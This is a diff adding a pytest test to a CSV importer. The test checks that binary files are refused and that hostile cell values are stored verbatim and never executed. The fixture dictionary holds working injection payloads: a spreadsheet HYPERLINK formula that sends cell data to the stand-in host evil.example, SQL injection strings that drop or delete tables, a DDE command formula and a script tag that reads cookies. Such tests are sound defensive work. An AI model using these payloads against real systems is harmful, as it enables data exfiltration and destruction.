@@ -427,3 +427,42 @@ def test_cli_exit_codes(warehouse, transformer_conn):
     finally:
         for batch in batches:
             importer.delete_batch(transformer_conn, batch)
+
+
+def test_hostile_files_are_refused_or_stored_verbatim(imports, transformer_conn, tmp_path):
+    """Binary garbage is refused with a clear error; a 10 MB line and spreadsheet-formula or SQL-looking
+    values are data: stored verbatim (bound through COPY, never interpolated into SQL), nothing executed."""
+    import csv
+    import os
+
+    columns = TABLES["crm_accounts"].column_names
+    garbage = tmp_path / "garbage"
+    garbage.mkdir()
+    (garbage / "crm_accounts.csv").write_bytes(b"\x89PNG\r\n\x1a\n" + os.urandom(4096))
+    refused = imports(garbage, batch_id="test-importer-garbage")
+    assert refused.exit_code == 2 and refused.files[0].loaded == 0
+    assert "binary data is not a CSV export" in refused.files[0].error
+    assert _count(transformer_conn, "crm_accounts", refused.batch_id) == 0
+
+    hostile = {
+        "BYO-H1": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+        "BYO-H2": "'); DROP TABLE bronze.crm_accounts; --",
+        "BYO-H3": "+cmd|' /C calc'!A0",
+        "BYO-H4": "Robert\"); DELETE FROM bronze._load_batches; --",
+        "BYO-H5": "<script>alert(document.cookie)</script>",
+        "BYO-H6": "x" * (10 * 1024 * 1024),  # one 10 MB line
+    }
+    values = tmp_path / "values"
+    values.mkdir()
+    with (values / "crm_accounts.csv").open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(columns)
+        for key, name in hostile.items():
+            writer.writerow([key, name] + [""] * (len(columns) - 2))
+    loaded = imports(values, batch_id="test-importer-hostile")
+    assert _loaded(loaded) == {"crm_accounts": (len(hostile), 0)}
+    stored = dict(_rows(transformer_conn, "crm_accounts", loaded.batch_id, "account_id, account_name"))
+    assert stored == hostile
+    # Nothing ran: the tables the strings name are intact.
+    assert transformer_conn.execute("select count(*) from bronze._load_batches").fetchone()[0] > 0
+    assert transformer_conn.execute("select to_regclass('bronze.crm_accounts')").fetchone()[0] is not None
